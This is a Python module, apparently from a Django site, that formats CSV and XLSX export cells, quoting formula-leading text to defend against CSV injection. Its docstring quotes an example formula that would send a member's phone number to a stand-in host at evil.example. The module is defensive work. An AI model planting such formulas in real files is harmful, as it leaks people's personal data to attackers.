"""What one cell of an export holds: the rules every CSV and XLSX export follows.

- **Formulas.** A spreadsheet runs a text cell that starts with = + - @ (or a tab or
  carriage return before one) as a formula, so a member's note such as
  ``=HYPERLINK("http://evil.example/?"&B2)`` would send the phone next to it away
  when an organiser opens the file (CSV injection, OWASP). CSV text cells that start
  so get a leading ``'``, which spreadsheets show as text. XLSX text cells are inline
  strings (``spreadsheets.xlsx``), never formulas, so they are written as they are.
  Importers drop the ``'`` again with ``unquote_text``, so an export imports back
  unchanged.
- **Times.** Organisers read times where they are: aware datetimes are written in the
  site's time zone (``TIME_ZONE``); in CSV to the minute, as the pages show them.
- **Decimals** (study hours) are written in CSV as the pages show them
  (``floatformat:"-2"``): a whole number without decimals, any other to two places.
  Their sums otherwise carried the places of the rows summed, so one column read
  ``0`` for a member with no progress rows and ``0.00`` for one with some.
"""

import datetime as dt
from decimal import Decimal

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: str) -> str:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def unquote_text(value: str) -> str:
    """An imported cell as it was before ``safe_text`` quoted it."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def local_datetime(value: dt.datetime) -> dt.datetime:
    """A naive datetime in the site's time zone (what a spreadsheet can hold)."""
    if timezone.is_aware(value):
        return timezone.make_naive(value, timezone.get_default_timezone())
    return value


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(value)
    if isinstance(value, dt.datetime):
        return local_datetime(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, Decimal) and value.is_finite():
        return decimal_text(value)
    return safe_text(str(value))


def decimal_text(value: Decimal) -> str:
    """``value`` as the pages show it: ``2``, ``1.50``, ``0``."""
    if value == value.to_integral_value():
        return str(int(value))
    return str(value.quantize(Decimal("0.01")))
